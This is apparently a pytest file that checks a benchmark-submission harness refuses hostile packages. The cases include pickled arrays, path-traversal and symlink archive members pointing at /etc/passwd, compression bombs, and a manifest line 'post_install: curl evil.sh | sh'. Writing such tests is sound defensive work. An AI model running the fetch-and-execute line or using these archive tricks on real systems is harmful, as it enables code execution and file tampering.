"""The hostile and broken package corpus: each case is refused with its exact message.

Prediction and manifest cases go through ``run_submission(store=True)`` on a temporary SQLite
database, which must hold no run afterwards; archive cases go through ``open_package`` /
``unpack_package``, which must leave nothing in the destination.
"""

from __future__ import annotations

import re
import tarfile
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest

from harness.core.errors import PredictionError, SubmissionError
from harness.data.prepare import PreparedBenchmark, load_benchmark
from harness.pipeline import run_submission
from harness.spec import load_spec
from harness.submission.predictions import read_predictions, write_predictions
from harness.submission.unpack import open_package, unpack_package
from tests import hostile
from tests.conftest import SPECS, stored_runs

DEMO = SPECS / "demo.yaml"


@pytest.fixture(scope="module")
def shared_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("zsl-home-hostile")


@pytest.fixture(autouse=True)
def isolated_home(shared_home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """One frozen demo for the whole module (the corpus only reads it)."""
    monkeypatch.setenv("ZSL_HOME", str(shared_home))
    monkeypatch.delenv("ZSL_DATABASE_URL", raising=False)
    return shared_home


@pytest.fixture
def bench() -> PreparedBenchmark:
    return load_benchmark(load_spec(DEMO))


@pytest.fixture
def db(db: str) -> Iterator[str]:
    """The shared fresh store, which must hold no run afterwards: every case here is refused."""
    yield db
    assert stored_runs(db) == 0, "a refused submission left a record"


def _in_package(package: Path, path: Path) -> str:
    """How messages name a file of the package: by its path in it."""
    return path.relative_to(package).as_posix()


def _refused(package: Path, db: str, error: type[Exception], message: str) -> None:
    with pytest.raises(error) as info:
        run_submission(package, DEMO, database_url=db, store=True, quiet=True)
    assert str(info.value) == message


# --- prediction files ----------------------------------------------------------------------


#: How package validation refuses an object array, by content (test_package_content.py).
OBJECT_ARRAY = (
    "{what} of dtype object (pickled Python objects), recognised by its content whatever its"
    " name: loading it runs code that the package's source does not show. Store arrays as"
    " .npy/.npz of numeric dtypes (np.save(path, array, allow_pickle=False)) or .safetensors,"
    " settings as .json or .yaml"
)


def test_pickle_in_npy_prediction_file(tmp_path: Path, bench: PreparedBenchmark, db: str) -> None:
    marker = tmp_path / "pwned"
    package, bad = hostile.predictions_package(
        tmp_path, bench, "zsl", lambda p, s, m: hostile.pickle_npy(p, marker), suffix="npy"
    )
    # Validation refuses the package before any file is read as predictions...
    what = OBJECT_ARRAY.format(what="a .npy array")
    _refused(
        package, db, SubmissionError, f"{package.resolve()}: {_in_package(package, bad)} is {what}"
    )
    # ...and the reader refuses the file on its own.
    with pytest.raises(PredictionError, match=r"prediction files end in \.safetensors or \.npz"):
        read_predictions(bad, **_meta(bench, "zsl"))
    assert not marker.exists()


def test_pickle_in_npz_prediction_file(tmp_path: Path, bench: PreparedBenchmark, db: str) -> None:
    marker = tmp_path / "pwned"
    package, bad = hostile.predictions_package(
        tmp_path,
        bench,
        "zsl",
        lambda p, s, m: hostile.write_npz(p, hostile.pickled_object_array(marker), m),
    )
    what = OBJECT_ARRAY.format(what="a .npz whose member 'scores.npy' is an array")
    _refused(
        package, db, SubmissionError, f"{package.resolve()}: {_in_package(package, bad)} is {what}"
    )
    with pytest.raises(PredictionError) as info:
        read_predictions(bad, **_meta(bench, "zsl"))
    assert str(info.value) == (
        f"{bad}: refused (Object arrays cannot be loaded when allow_pickle=False);"
        " object arrays and pickles are never loaded"
    )
    assert not marker.exists()


def test_safetensors_header_lying_about_sizes(
    tmp_path: Path, bench: PreparedBenchmark, db: str
) -> None:
    package, bad = hostile.predictions_package(
        tmp_path,
        bench,
        "zsl",
        lambda p, s, m: hostile.lying_safetensors(p, m),
        suffix="safetensors",
    )
    with pytest.raises(PredictionError) as info:
        run_submission(package, DEMO, database_url=db, store=True, quiet=True)
    assert re.fullmatch(
        re.escape(f"{_in_package(package, bad)}: not a valid safetensors file (") + r".+\)",
        str(info.value),
    ), info.value


def test_wrong_shape_predictions(tmp_path: Path, bench: PreparedBenchmark, db: str) -> None:
    def write(path: Path, setting: str, m: dict[str, object]) -> None:
        hostile.write_npz(path, np.zeros((1220, 19), np.float32), m)

    package, bad = hostile.predictions_package(tmp_path, bench, "zsl", write)
    _refused(
        package,
        db,
        PredictionError,
        f"{_in_package(package, bad)}: scores must have shape (n_test, n_candidates) = (1220, 20); got (1220, 19)",
    )


def test_nan_in_predictions_names_the_row(
    tmp_path: Path, bench: PreparedBenchmark, db: str
) -> None:
    def write(path: Path, setting: str, m: dict[str, object]) -> None:
        scores = np.zeros((1220, 20), np.float32)
        scores[7, 3] = np.nan
        scores[9, 0] = np.inf
        hostile.write_npz(path, scores, m)

    package, bad = hostile.predictions_package(tmp_path, bench, "zsl", write)
    _refused(
        package,
        db,
        PredictionError,
        f"{bad.relative_to(package).as_posix()}: setting zsl, row 7, column 3: score nan is not"
        " finite (2 row(s) hold NaN or inf); scores must be finite numbers (rows in the"
        " setting's frozen test order, columns in its candidate order)",
    )


@pytest.mark.parametrize("key", ["class_order_hash", "benchmark_hash"])
def test_predictions_made_for_another_benchmark_or_class_order(
    tmp_path: Path, bench: PreparedBenchmark, db: str, key: str
) -> None:
    other = "sha256:" + "1" * 64

    def write(path: Path, setting: str, m: dict[str, object]) -> None:
        hostile.write_npz(path, np.zeros((758, 16), np.float32), {**m, key: other})

    package, bad = hostile.predictions_package(tmp_path, bench, "zsl_val", write)
    expected = bench.hash if key == "benchmark_hash" else bench.class_order_hash("zsl_val")
    _refused(
        package,
        db,
        PredictionError,
        f"{_in_package(package, bad)}: made for {key} {other!r}, but this run needs {expected!r}."
        " Regenerate the file from the current task bundle.",
    )


def _meta(bench: PreparedBenchmark, setting: str) -> dict:  # type: ignore[type-arg]
    return {
        "benchmark_hash": bench.hash,
        "class_order_hash": bench.class_order_hash(setting),
        "setting": setting,
        "shape": (len(bench.rows(setting)), len(bench.columns(setting))),
    }


def _topk_file(tmp_path: Path, bench: PreparedBenchmark, indices: np.ndarray) -> Path:
    m = _meta(bench, "zsl")
    path = tmp_path / "demo.zsl.safetensors"
    write_predictions(
        path,
        topk_indices=indices,
        topk_scores=np.ones(indices.shape, np.float32),
        benchmark_hash=m["benchmark_hash"],
        class_order_hash=m["class_order_hash"],
        setting="zsl",
    )
    return path


def test_duplicate_topk_entries(tmp_path: Path, bench: PreparedBenchmark) -> None:
    indices = np.tile(np.arange(5), (1220, 1))
    indices[11, 4] = indices[11, 0]
    indices[12, 1] = indices[12, 2]
    path = _topk_file(tmp_path, bench, indices)
    with pytest.raises(PredictionError) as info:
        read_predictions(path, **_meta(bench, "zsl"), topk=5)
    assert str(info.value) == (
        f"{path}: topk_indices repeat a candidate in row 11 (2 row(s) in this chunk)"
    )


def test_out_of_range_topk_index(tmp_path: Path, bench: PreparedBenchmark) -> None:
    indices = np.tile(np.arange(5), (1220, 1))
    indices[40, 2] = 20  # 20 candidates: valid columns are 0..19
    path = _topk_file(tmp_path, bench, indices)
    with pytest.raises(PredictionError) as info:
        read_predictions(path, **_meta(bench, "zsl"), topk=5)
    assert str(info.value) == f"{path}: topk_indices out of range [0, 20) first at row 40: 20"


# --- manifests -----------------------------------------------------------------------------


def test_missing_manifest(tmp_path: Path, db: str) -> None:
    package = hostile.copy_eszsl(tmp_path)
    (package / "submission.yaml").unlink()
    _refused(
        package, db, SubmissionError, f"{package}: no submission.yaml; run `zsl submission init`"
    )


def test_manifest_with_unknown_keys(tmp_path: Path, db: str) -> None:
    package = hostile.copy_eszsl(tmp_path)
    manifest = package / "submission.yaml"
    manifest.write_text(
        manifest.read_text().replace("  gpus: 0\n", "  gpus: 0\n  network: true\n")
        + "post_install: curl evil.sh | sh\n"
    )
    lines = manifest.read_text().splitlines()
    network = lines.index("  network: true") + 1
    post_install = lines.index("post_install: curl evil.sh | sh") + 1
    with pytest.raises(SubmissionError) as info:
        run_submission(package, DEMO, database_url=db, store=True, quiet=True)
    header, *problems = str(info.value).splitlines()
    assert header == f"2 problems in {manifest}:"
    assert problems[0] == (
        f"  {manifest}:{network}: resources.network: unknown key 'network'. Allowed keys: cpus,"
        " gpus, memory_gb, time_s"
    )
    assert problems[1].startswith(
        f"  {manifest}:{post_install}: post_install: unknown key 'post_install'. Allowed keys:"
    )


def test_entrypoint_module_missing(tmp_path: Path, db: str) -> None:
    package = hostile.copy_eszsl(tmp_path)
    (package / "model.py").rename(package / "eszsl_model.py")
    _refused(
        package,
        db,
        SubmissionError,
        f"{package / 'submission.yaml'}: model.entrypoint module 'model' not found in the"
        " package (looked for model.py)",
    )


# --- archives ------------------------------------------------------------------------------

MANIFEST = b"name: x\n"


def _unpack_refused(archive: Path, tmp_path: Path, message: str, **limits: int) -> None:
    work = tmp_path / "work"
    with pytest.raises(SubmissionError) as info:
        if limits:
            unpack_package(archive, work / "package", **limits)  # type: ignore[arg-type]
        else:
            open_package(archive, work)
    assert str(info.value) == f"{archive}: {message}"
    leftovers = [p for p in work.rglob("*") if not p.is_dir()] if work.exists() else []
    assert leftovers == [], "a refused archive left files behind"


def test_path_traversal_in_zip(tmp_path: Path) -> None:
    archive = hostile.zip_of(tmp_path / "a.zip", {"submission.yaml": MANIFEST, "../x": b"owned"})
    _unpack_refused(archive, tmp_path, "member '../x' leaves the package ('..'); refused")
    assert not (tmp_path / "x").exists()


def test_path_traversal_in_tar(tmp_path: Path) -> None:
    archive = hostile.tar_of(
        tmp_path / "a.tar.gz",
        [hostile.tar_file("submission.yaml", MANIFEST), hostile.tar_file("a/../../x", b"owned")],
    )
    _unpack_refused(archive, tmp_path, "member 'a/../../x' leaves the package ('..'); refused")
    assert not (tmp_path / "x").exists()


@pytest.mark.parametrize("fmt", ["zip", "tar.gz"])
def test_absolute_path_member(tmp_path: Path, fmt: str) -> None:
    target = tmp_path / "abs-target"
    name = str(target)
    if fmt == "zip":  # zipfile strips a leading '/' when writing: patch the raw name
        archive = hostile.zip_of(
            tmp_path / "a.zip", {"submission.yaml": MANIFEST, "X" + name[1:]: b""}
        )
        raw = archive.read_bytes().replace(("X" + name[1:]).encode(), name.encode())
        archive.write_bytes(raw)
    else:
        archive = hostile.tar_of(tmp_path / "a.tar.gz", [hostile.tar_file(name, b"owned")])
    _unpack_refused(
        archive, tmp_path, f"member '{name}' is an absolute path; members must be relative"
    )
    assert not target.exists()


def test_symlink_to_etc_passwd_in_tar(tmp_path: Path) -> None:
    archive = hostile.tar_of(
        tmp_path / "a.tar.gz",
        [
            hostile.tar_file("submission.yaml", MANIFEST),
            hostile.tar_special("labels.npy", tarfile.SYMTYPE, "/etc/passwd"),
        ],
    )
    _unpack_refused(
        archive,
        tmp_path,
        "member 'labels.npy' is a symbolic link to '/etc/passwd'; packages hold only files"
        " and folders",
    )


def test_symlink_in_zip(tmp_path: Path) -> None:
    archive = hostile.zip_of(
        tmp_path / "a.zip", {"submission.yaml": MANIFEST}, symlinks={"data": "/etc"}
    )
    _unpack_refused(
        archive,
        tmp_path,
        "member 'data' is a symbolic link; packages hold only files and folders",
    )


def test_hardlink_escape_in_tar(tmp_path: Path) -> None:
    archive = hostile.tar_of(
        tmp_path / "a.tar.gz",
        [
            hostile.tar_file("submission.yaml", MANIFEST),
            hostile.tar_special("passwd", tarfile.LNKTYPE, "../../../../etc/passwd"),
        ],
    )
    _unpack_refused(
        archive,
        tmp_path,
        "member 'passwd' is a hard link to '../../../../etc/passwd'; packages hold only files"
        " and folders",
    )


@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_device_and_fifo_members_in_tar(tmp_path: Path, kind: bytes) -> None:
    archive = hostile.tar_of(
        tmp_path / "a.tar.gz",
        [hostile.tar_file("submission.yaml", MANIFEST), hostile.tar_special("dev", kind)],
    )
    _unpack_refused(archive, tmp_path, "member 'dev' is a device or FIFO; refused")


def test_zip_bomb(tmp_path: Path) -> None:
    archive = hostile.zip_bomb(tmp_path / "bomb.zip", uncompressed_mib=200)
    size = archive.stat().st_size
    assert size < 1024 * 1024  # a few hundred KB on disk
    _unpack_refused(
        archive,
        tmp_path,
        "member 'weights.bin': declared uncompressed size exceeds 100 x the archive's"
        f" {size} bytes (a compression bomb?); refused",
    )


def test_zip_bomb_over_the_size_limit(tmp_path: Path) -> None:
    archive = hostile.zip_bomb(tmp_path / "bomb.zip", uncompressed_mib=20)
    _unpack_refused(
        archive,
        tmp_path,
        "member 'weights.bin': declared uncompressed size exceeds 10485760 bytes; packages"
        " larger than that are refused",
        max_bytes=10 * 1024 * 1024,
        max_ratio=10_000,
    )


def test_tar_bomb_is_counted_while_streaming(tmp_path: Path) -> None:
    archive = hostile.tar_bomb(tmp_path / "bomb.tar.gz", uncompressed_mib=120)
    size = archive.stat().st_size
    assert size < 1024 * 1024
    _unpack_refused(
        archive,
        tmp_path,
        "member 'weights.bin': uncompressed contents exceed 100 x the archive's"
        f" {size} bytes (a compression bomb?); refused",
    )


def test_too_many_members(tmp_path: Path) -> None:
    archive = hostile.many_members_zip(tmp_path / "many.zip", 101)
    _unpack_refused(archive, tmp_path, "101 members, more than the limit of 100", max_members=100)


def test_too_many_members_in_tar(tmp_path: Path) -> None:
    archive = hostile.tar_of(
        tmp_path / "many.tar.gz", [hostile.tar_file(f"f{i}", b"") for i in range(11)]
    )
    _unpack_refused(
        archive, tmp_path, "more than the limit of 10 members (stopped at 'f10')", max_members=10
    )


def test_duplicate_member_names(tmp_path: Path) -> None:
    archive = hostile.zip_with_duplicates(tmp_path / "dup.zip")
    _unpack_refused(archive, tmp_path, "member './model.py' appears twice; refused")


def test_backslash_member_name(tmp_path: Path) -> None:
    archive = hostile.tar_of(tmp_path / "odd.tar.gz", [hostile.tar_file("a\\..\\..\\x", b"")])
    _unpack_refused(
        archive,
        tmp_path,
        "member 'a\\..\\..\\x' has a backslash in its name; use '/' between folders",
    )


def test_nul_in_member_name(tmp_path: Path) -> None:
    # zipfile itself silently cuts a name at its NUL byte ('model.py\0.txt' -> 'model.py')
    archive = hostile.zip_of(tmp_path / "odd.zip", {"model.pyX.txt": b""})
    archive.write_bytes(archive.read_bytes().replace(b"model.pyX.txt", b"model.py\0.txt"))
    _unpack_refused(
        archive, tmp_path, "member 'model.py\\x00.txt' has a NUL byte in its name; refused"
    )
